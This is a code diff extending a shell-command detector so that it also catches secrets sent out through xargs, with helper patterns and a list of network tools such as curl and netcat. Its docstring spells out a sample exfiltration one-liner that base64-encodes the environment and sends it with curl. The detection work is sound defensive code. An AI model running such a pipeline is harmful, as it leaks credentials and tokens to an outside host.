@@ -9,6 +9,7 @@ import posixpath
 from collections.abc import Sequence
 
 from holdfast.commandline.model import Run
+from holdfast.judging import sent_tokens
 from holdfast.patterns import lazy_pattern
 from holdfast.shell.tools import listed
 
@@ -44,9 +45,14 @@ def sends_what_it_gathered(runs: Sequence[Run]) -> set[int]:
     open_secrets: list[Run] = []
     """What was printed, and may go into the file of the group or the function that it stands in."""
     found: set[int] = set()
+    listing: Run | None = None
     for number, run in enumerate(runs):
         if run.remote:
             continue
+        if run.program == "xargs":
+            listing = run
+        elif run.program in _SENDS and "xargs" in run.via and listing is not None and _lists_secrets(listing, run):
+            found.add(number)
         if run.program in _SENDS and (secret or dumped) and _is_sent(run, secret, dumped):
             found.add(number)
         files = {arg.text for _, arg in run.writes} | _packed(run)
@@ -69,6 +75,23 @@ def _is_secret(run: Run) -> bool:
         # Only the names of the variables: `env | cut -d= -f1`.
         return not any(_ONLY_NAMES.match(text) for text in run.texts)
     return run.program in _READS and any(_SECRET.search(text) for text in run.texts)
+
+
+def _lists_secrets(listing: Run, sender: Run) -> bool:
+    """`env | base64 | xargs -I{} curl "https://…/?d={}"`: each word of the list becomes a part of a call that sends."""
+    if not _TAKES_WORD.search(" ".join(listing.texts)) and sender.program not in _WEB:
+        return False
+    if _ONLY_METADATA.intersection(listing.piped_from) or _NEAR.search(" ".join(sender.texts)):
+        return False
+    if _SAYS_ALL.intersection(listing.piped_from) or any(_SECRET.search(name) for name in listing.fed_by):
+        return True
+    said = sent_tokens.PRINTS_TOKEN.search(" ".join(listing.fed_by)) is not None
+    return said and not any(sent_tokens.is_header(text) for text in sender.texts)
+
+
+_WEB = listed("curl wget http https httpie xh nc ncat netcat")
+_TAKES_WORD = lazy_pattern(r"(?:^|\s)(?:-I|-i|--replace)")
+_ONLY_METADATA = listed("cut wc md5sum sha1sum sha256sum sha512sum shasum cksum")
 
 
 def _packed(run: Run) -> set[str]:
